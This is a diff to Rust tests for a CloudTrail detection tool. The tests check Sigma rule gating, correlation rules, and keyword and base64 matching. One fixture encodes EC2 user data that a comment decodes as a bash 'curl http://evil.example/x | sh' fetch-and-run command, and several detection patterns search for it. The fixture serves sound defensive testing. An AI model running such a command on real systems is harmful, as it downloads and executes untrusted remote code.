@@ -59,9 +59,31 @@ async fn the_shared_rules_compile_and_fire_on_the_detonations() {
         "{} of {total} not supported: {reasons:#?}",
         load.not_supported.len()
     );
+    // The gates (each rule evaluated only on the events it names) change nothing: the
+    // same (event, rule) pairs as every rule evaluated on every event.
+    let pairs = |gated: bool| {
+        let ctx = &ctx;
+        let sql = format!(
+            "SELECT count(*) AS n, count(DISTINCT concat(source_file, '#', CAST(record_index AS VARCHAR), '#', CAST(rule AS VARCHAR))) AS d FROM ({})",
+            sigma::hits_sql(&load, gated)
+        );
+        async move { super::scalar(ctx, &sql).await }
+    };
+    let (gated, all) = (pairs(true).await, pairs(false).await);
+    assert!(gated > 300, "{gated} hits");
+    assert_eq!(gated, all);
+    let only_in_one = format!(
+        "SELECT count(*) FROM (({gated} EXCEPT {all}) UNION ALL ({all} EXCEPT {gated}))",
+        gated = sigma::hits_sql(&load, true),
+        all = sigma::hits_sql(&load, false)
+    );
+    assert_eq!(super::scalar(&ctx, &only_in_one).await, 0);
     // Over the Stratus Red Team detonations: what fires, by rule.
+    let mut detections = vec![sigma::rule_set(&load).unwrap()];
+    detections.extend(load.correlations.iter().cloned());
+    assert_eq!(load.correlations.len(), 5, "suzaku's correlation rules");
     let options = QueryOptions {
-        detections: DetectionSet::new(vec![sigma::rule_set(&load).unwrap()]).unwrap(),
+        detections: DetectionSet::new(detections).unwrap(),
         ..QueryOptions::default()
     };
     let ctx = trailscope_query::open_session(&dataset, &options)
@@ -88,7 +110,7 @@ async fn the_shared_rules_compile_and_fire_on_the_detonations() {
     }
     assert_eq!(
         load.duplicates.len(),
-        56,
+        55,
         "suzaku's copies of SigmaHQ rules"
     );
 }
@@ -105,12 +127,10 @@ async fn matches(ctx: &datafusion::prelude::SessionContext, detection: &str) -> 
         "SELECT event_id FROM events WHERE {} ORDER BY event_id",
         load.compiled[0].predicate
     );
-    let batches = ctx.sql(&sql).await.unwrap().collect().await.unwrap();
-    trailscope_query::Answer {
-        schema: batches[0].schema(),
-        batches,
-    }
-    .strings("event_id")
+    let frame = ctx.sql(&sql).await.unwrap();
+    let schema = std::sync::Arc::new(frame.schema().as_arrow().clone());
+    let batches = frame.collect().await.unwrap();
+    trailscope_query::Answer { schema, batches }.strings("event_id")
 }
 
 #[tokio::test]
@@ -254,6 +274,61 @@ async fn modifiers_and_conditions_mean_what_the_specification_says() {
         (
             "  a:\n    eventName: ConsoleLogin\n  b:\n    userAgent|contains: linux\n  c:\n    eventName: GetObject\n  condition: (a and not b) or c",
             &["a", "c"],
+        ),
+    ];
+    for (detection, expected) in cases {
+        assert_eq!(&matches(&ctx, detection).await, expected, "{detection}");
+    }
+}
+
+#[tokio::test]
+async fn keywords_and_encodings_match_the_records_text() {
+    let tmp = tempfile::tempdir().unwrap();
+    // `d`'s user data is base64 of "#!/bin/bash\ncurl http://evil.example/x | sh".
+    let records = [
+        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","eventID":"d",
+            "eventTime":"2026-03-02T10:00:00Z","recipientAccountId":"111122223333",
+            "requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="}}"#,
+        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","eventID":"e",
+            "eventTime":"2026-03-02T10:00:00Z","recipientAccountId":"111122223333","userAgent":"Evil-Tool/1.0",
+            "requestParameters":{"userData":"ZWNobyBoZWxsbw=="}}"#,
+    ];
+    let trail = tmp.path().join("t.json");
+    std::fs::write(&trail, format!("{{\"Records\":[{}]}}", records.join(","))).unwrap();
+    let dataset = tmp.path().join("lake");
+    trailscope_ingest::ingest(
+        &trailscope_ingest::IngestOptions::new(vec![trail], dataset.clone()),
+        &trailscope_ingest::Silent,
+    )
+    .unwrap();
+    let ctx = trailscope_query::open_session(&dataset, &QueryOptions::default())
+        .await
+        .unwrap();
+    let cases: &[(&str, &[&str])] = &[
+        // Keywords: anywhere in the record's values, case-insensitive, wildcards kept.
+        ("  words:\n    - evil-tool\n  condition: words", &["e"]),
+        ("  words:\n    - 'ZWNob*'\n  condition: words", &["e"]),
+        ("  words:\n    - nothing-like-this\n  condition: words", &[]),
+        (
+            "  words:\n    '|all':\n      - runinstances\n      - evil\n  condition: words",
+            &["e"],
+        ),
+        // The value as it is inside a longer base64 text, at any offset.
+        (
+            "  sel:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: sel",
+            &["d"],
+        ),
+        (
+            "  sel:\n    requestParameters.userData|base64offset|contains: '/bin/bash'\n  condition: sel",
+            &["d"],
+        ),
+        (
+            "  sel:\n    requestParameters.userData|base64: 'echo hello'\n  condition: sel",
+            &["e"],
+        ),
+        (
+            "  sel:\n    requestParameters.userData|base64|contains: 'echo'\n  condition: sel",
+            &[],
         ),
     ];
     for (detection, expected) in cases {
